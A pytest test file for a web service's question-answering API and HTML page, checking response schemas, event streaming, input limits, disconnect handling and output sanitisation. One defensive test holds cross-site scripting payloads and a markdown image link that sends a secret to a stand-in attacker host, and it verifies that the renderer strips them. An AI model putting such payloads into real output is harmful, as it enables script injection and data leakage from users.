"""Questions over HTTP without a database: events, one JSON, a page; who leaves; what may stand in an answer."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncGenerator, AsyncIterator, Iterator
from contextlib import aclosing
from types import SimpleNamespace
from typing import Any, cast
from uuid import UUID

import httpx2
import pytest
from jsonschema import Draft202012Validator

from docs.json_shapes import SCHEMAS
from panlect.accounts.keys import Principal
from panlect.ask.agent import Asking
from panlect.ask.corpus import LocalCorpus
from panlect.errors import BadInputError, DatabaseError
from panlect.llm.chat import Answer, Caller, ChatRequest, Delta
from panlect.llm.scripted import ScriptedModels
from panlect.wiring import Services
from serve import ask as routes
from serve.app import edge
from tests.unit.ask.conftest import SHOP, corpus_of
from tests.unit.serve.test_guards import calls

pytestmark = pytest.mark.anyio
ROWS = [
    {"id": UUID(int=n), "full_name": f"acme/{name}", "commit_sha": sha}
    for n, (name, sha) in enumerate([("shop", "a"), ("api", "b"), ("new", None)], 1)
]


@pytest.fixture
def models() -> ScriptedModels:
    return ScriptedModels(lambda _: "Rounded *here* [shop/money.py:1-2] and [secrets.env:1-2].")


@pytest.fixture
async def client(
    models: ScriptedModels, monkeypatch: pytest.MonkeyPatch, anyio_backend: str
) -> AsyncIterator[httpx2.AsyncClient]:
    app = edge(cast(Services, SimpleNamespace(models=models)))
    principal = Principal(UUID(int=1), UUID(int=2), "test", frozenset({"write"}))
    from fastapi.routing import iter_route_contexts

    for route in iter_route_contexts(app.routes):
        for call in calls(getattr(route, "dependant", None)):
            if hasattr(call, "scope"):
                app.dependency_overrides[call] = lambda: principal

    async def rows(*_: object) -> list[dict[str, Any]]:
        return ROWS

    async def asking(_: object, who: Principal, wanted: Any, k: int) -> Asking:
        found = routes.chosen(ROWS, wanted)
        names = [row["full_name"] for row in ROWS if row["id"] in found]
        return Asking(corpus_of(**dict.fromkeys(names, SHOP)), models, Caller(who.organisation_id), k=k)

    monkeypatch.setattr(routes, "_rows", rows)
    monkeypatch.setattr(routes, "_asking", asking)
    transport = httpx2.ASGITransport(app, raise_app_exceptions=True)
    async with httpx2.AsyncClient(transport=transport, base_url="https://panlect.example") as found:
        yield found


def told(stream: str) -> Iterator[tuple[str, Any]]:
    for block in stream.split("\n\n"):
        if block and not block.startswith(":"):
            name, data = block.split("\n")
            yield name.removeprefix("event: "), json.loads(data.removeprefix("data: "))


async def test_one_json_is_what_its_schema_says(client: httpx2.AsyncClient) -> None:
    asked = {"question": "Who rounds?", "repositories": ["acme/shop"]}
    answer = await client.post("/api/v1/ask", json=asked)
    assert answer.status_code == 200
    found = answer.json()
    Draft202012Validator(SCHEMAS["ask"]).validate(found)
    assert found["answer"] == "Rounded *here* [shop/money.py:1-2] and."
    assert (found["dropped"], found["model"]) == (1, "scripted/script")
    assert found["sources"][0]["text"].startswith("def rounded")


async def test_events_come_in_order_and_the_last_is_the_same_json(client: httpx2.AsyncClient) -> None:
    asked = {"question": "Who rounds?", "repositories": [str(UUID(int=1))], "stream": True}
    answer = await client.post("/api/v1/ask", json=asked)
    assert answer.headers["content-type"].startswith("text/event-stream")
    assert answer.headers["cache-control"] == "no-store"
    events = list(told(answer.text))
    assert [name for name, _ in events[:1]] == ["step"]
    text = "".join(data["delta"] for name, data in events if name == "text")
    assert [data["path"] for name, data in events if name == "source"] == ["shop/money.py"]
    name, last = events[-1]
    assert (name, last["answer"]) == ("done", text)
    Draft202012Validator(SCHEMAS["ask"]).validate(last)


@pytest.mark.parametrize(
    "asked",
    [
        {},
        {"question": ""},
        {"question": "x" * 5000},
        {"question": "x", "k": 1000},
        {"question": "x", "repositories": "some"},
        {"question": "x", "repositories": ["a"] * 50},
        {"question": "x", "more": 1},
    ],
)
async def test_a_question_out_of_bounds_is_422(client: httpx2.AsyncClient, asked: dict[str, Any]) -> None:
    assert (await client.post("/api/v1/ask", json=asked)).status_code == 422


async def test_what_cannot_be_asked_is_400_or_an_error_event(client: httpx2.AsyncClient) -> None:
    for repositories in (["acme/none"], []):
        asked = {"question": "x", "repositories": repositories}
        assert (await client.post("/api/v1/ask", json=asked)).status_code == 400
    blank = {"question": "   ", "stream": True}
    (only,) = told((await client.post("/api/v1/ask", json=blank)).text)
    assert (only[0], only[1]["error"]) == ("error", "This cannot be asked.")


def test_all_means_what_has_an_index_and_nothing_is_asked_twice() -> None:
    assert routes.chosen(ROWS, "all") == [UUID(int=1), UUID(int=2)]
    assert routes.chosen(ROWS, ["acme/api", str(UUID(int=2))]) == [UUID(int=2)]
    with pytest.raises(BadInputError):
        routes.chosen(ROWS[2:], "all")
    with pytest.raises(BadInputError, match="too many"):
        routes.chosen([{**ROWS[0], "id": UUID(int=n)} for n in range(40)], "all")


async def test_the_page_works_without_a_script(client: httpx2.AsyncClient) -> None:
    form = await client.get("/ask")
    assert 'value="acme/shop"' in form.text
    assert "acme/new" not in form.text
    page = await client.post("/ask", data={"question": "Who <b>rounds</b>?", "repository": "acme/shop"})
    assert "&lt;b&gt;rounds" in page.text
    assert '<a class="cited" href="#source-1">shop/money.py:1-2</a>' in page.text
    assert 'id="source-1"' in page.text
    assert "<em>here</em>" in page.text
    assert "secrets.env" not in page.text
    assert "unsafe-inline" not in page.headers["content-security-policy"]
    assert (await client.get("/static/ask.js")).status_code == 200


async def test_the_pages_script_gets_the_answer_as_the_page_shows_it(client: httpx2.AsyncClient) -> None:
    answer = await client.post(
        "/ask",
        data={"question": "Who rounds?", "repository": "acme/shop"},
        headers={"accept": "text/event-stream"},
    )
    name, last = list(told(answer.text))[-1]
    assert name == "done"
    assert "<!doctype" not in last["html"]
    assert 'class="code"' in last["html"]


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![x](https://evil.example/?q=secret)",
        "[x](javascript:alert(1)) <a href='//evil.example'>y</a> <https://evil.example>",
        '<iframe srcdoc="x"></iframe><form action="//evil.example"><style>*{}</style>',
        "```html\n<script>1</script>\n```",
        "\ue0001\ue001 \ue000999\ue001",
        "[__init__.py:1-2](javascript:alert(1))",
    ],
)
def test_an_answer_holds_no_markup_of_its_own(text: str) -> None:
    source = {"path": "__init__.py", "start_line": 1, "end_line": 2, "text": "x"}
    shown = str(routes.answer_html({"answer": text, "sources": [source]}))
    shown = shown.replace('<a class="cited" href="#source-1">__init__.py:1-2</a>', "")
    for forbidden in ("<script", "<img", "<a", "<iframe", "<form", "<style", "\ue000"):
        assert forbidden not in shown


def test_a_citation_is_a_link_whatever_markdown_makes_of_its_name() -> None:
    sources = [
        {"path": "a/__init__.py", "start_line": 1, "end_line": 2, "text": "x"},
        {"path": "a<b>.py", "start_line": 3, "end_line": 3, "text": "x", "repository": "r"},
    ]
    shown = str(routes.answer_html({"answer": "It [a/__init__.py:1-2, r:a<b>.py:3-3].", "sources": sources}))
    assert '<a class="cited" href="#source-1">a/__init__.py:1-2</a>' in shown
    assert '<a class="cited" href="#source-2">r:a&lt;b&gt;.py:3-3</a>' in shown


class Endless(ScriptedModels):
    """Begins to answer, then waits for ever."""

    def __init__(self) -> None:
        super().__init__(lambda _: "")
        self.closed = asyncio.Event()

    async def stream(self, request: ChatRequest, caller: Caller) -> AsyncGenerator[Delta | Answer, None]:
        try:
            yield Delta("It begins. " * 40)
            await asyncio.sleep(3600)
        finally:
            self.closed.set()


def asking(models: ScriptedModels, corpus: LocalCorpus | None = None) -> Asking:
    return Asking(corpus or corpus_of(shop=SHOP), models, Caller(UUID(int=1)))


class Client:
    """A client of a request whose body is read: it stays until it leaves."""

    def __init__(self) -> None:
        self.left = asyncio.Event()

    async def receive(self) -> dict[str, Any]:
        await self.left.wait()
        return {"type": "http.disconnect"}


async def test_while_the_model_is_silent_signs_of_life_come_and_a_reader_that_leaves_ends_its_call() -> None:
    models = Endless()
    async with aclosing(routes._api_events(cast(Any, Client()), "Who?", asking(models), 0.01)) as events:
        async for event in events:
            if event.startswith(":"):
                break
    assert models.closed.is_set()


async def test_a_client_that_hangs_up_ends_the_model_call_with_and_without_a_stream() -> None:
    for stream in (True, False):
        models, client = Endless(), Client()
        asyncio.get_running_loop().call_later(0.05, client.left.set)
        if stream:
            events = [one async for one in routes._api_events(cast(Any, client), "Who?", asking(models))]
            assert not events[-1].startswith("event: done")
        else:
            assert await routes._whole(cast(Any, client), "Who?", asking(models)) is None
        assert models.closed.is_set()


async def test_a_house_that_breaks_in_the_middle_is_an_error_event() -> None:
    class Away(LocalCorpus):
        async def search(self, query: str, k: int) -> Any:
            raise DatabaseError("Postgres is away.")

    broken = asking(ScriptedModels(lambda _: ""), Away(corpus_of(shop=SHOP).readers))
    (step, error) = [one async for one in routes._api_events(cast(Any, Client()), "Who?", broken)]
    assert step.startswith("event: step")
    assert error.startswith("event: error")
    assert "Postgres is away." in error
